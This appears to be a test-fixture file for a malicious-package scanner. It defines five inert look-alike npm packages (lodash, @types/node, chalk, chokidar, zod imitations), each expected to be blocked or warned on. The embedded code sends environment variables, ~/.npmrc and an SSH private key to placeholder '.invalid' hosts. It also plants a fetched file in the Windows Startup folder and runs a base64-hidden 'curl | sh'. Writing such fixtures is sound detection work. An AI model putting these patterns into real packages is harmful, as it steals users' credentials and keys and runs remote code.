import { base64, hooked, manifest } from '../manifest.ts';
import type { Specimen } from '../specimen.ts';

const from = 'a copy of a known package with a small residue (crossenv, types-node, web3 look-alikes)';

export const specimens: readonly Specimen[] = [
  {
    name: 'look-alike-wrapped',
    from,
    files: {
      'package.json': manifest({ name: 'loadsh-inert', main: 'index.js', dependencies: { lodash: '^4.17.21' } }),
      'index.js': `module.exports = require('lodash');
setTimeout(function () {
  var env = process.env, out = {};
  Object.keys(env).forEach(function (key) { out[key] = env[key]; });
  var req = require('http').request({ host: 'metrics.invalid', port: 80, path: '/collect', method: 'POST' });
  req.end(JSON.stringify(out));
}, 3000);
`,
    },
    expect: 'block',
    happens: { at: 'import', does: 'connects' },
  },
  {
    name: 'look-alike-startup-bat',
    from,
    files: {
      'package.json': hooked('node ./scripts/init.js', { name: '@types_inert/node' }),
      'scripts/init.js': `const fs = require('fs/promises');
const path = require('path');

async function init() {
  if (process.platform !== 'win32') return;
  const startup = path.join(process.env.APPDATA, 'Microsoft\\\\Windows\\\\Start Menu\\\\Programs\\\\Startup');
  const response = await fetch('https://paste.invalid/raw/INERT');
  await fs.writeFile(path.join(startup, 'prettier.bat'), await response.text());
}

init();
`,
      'index.d.ts': 'export {};\n',
    },
    expect: 'warn',
    happens: { at: 'install', does: 'writes file', on: 'win32' },
  },
  {
    name: 'look-alike-console-log',
    from,
    files: {
      'package.json': manifest({ name: 'chalk-inert', type: 'module', exports: './source/index.js' }),
      'source/index.js': `import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';

export const red = text => '\\u001B[31m' + text + '\\u001B[39m';

const original = console.log;
console.log = function (...values) {
  original.apply(console, values);
  const file = path.join(os.homedir(), '.npmrc');
  if (!fs.existsSync(file)) return;
  fetch('https://o1.ingest.sentry.invalid/api/1/store/', { method: 'POST', body: JSON.stringify({ extra: fs.readFileSync(file, 'utf8') }) }).catch(() => {});
};
`,
    },
    expect: 'block',
  },
  {
    name: 'look-alike-residue-file',
    from,
    files: {
      'package.json': manifest({ name: 'chokidar-inert', main: './index.js', dependencies: { chokidar: '3.6.0' } }),
      'index.js': `'use strict';
const chokidar = require('chokidar');
require('./lib/caller');
exports.watch = chokidar.watch;
exports.FSWatcher = chokidar.FSWatcher;
`,
      'lib/caller.js': `const a = (s) => Buffer.from(s, 'base64').toString();
const m = require(a('${base64('child_process')}'));
m[a('${base64('exec')}')](a('${base64('curl -s http://stage.invalid/INERT | sh')}'), { windowsHide: true });
`,
    },
    expect: 'block',
    happens: { at: 'import', does: 'spawns' },
  },
  {
    name: 'look-alike-typescript',
    from,
    files: {
      'package.json': manifest({ name: 'zod-inert', main: 'src/index.ts', types: 'src/index.ts' }),
      'src/index.ts': `import { homedir } from 'node:os';
import { readFileSync } from 'node:fs';
import { request, type RequestOptions } from 'node:https';

interface Payload { readonly key: string; readonly host?: string }

export function string(): { parse(value: unknown): string } {
  return { parse: (value: unknown) => value as string };
}

const options: RequestOptions = { hostname: 'collect.invalid', method: 'PUT', path: '/k' };
const payload: Payload = { key: readFileSync(\`\${homedir()}/.ssh/id_ed25519\`, 'utf8') };
request(options).end(JSON.stringify(payload satisfies Payload));
`,
    },
    expect: 'block',
    happens: { at: 'import', does: 'connects' },
  },
];
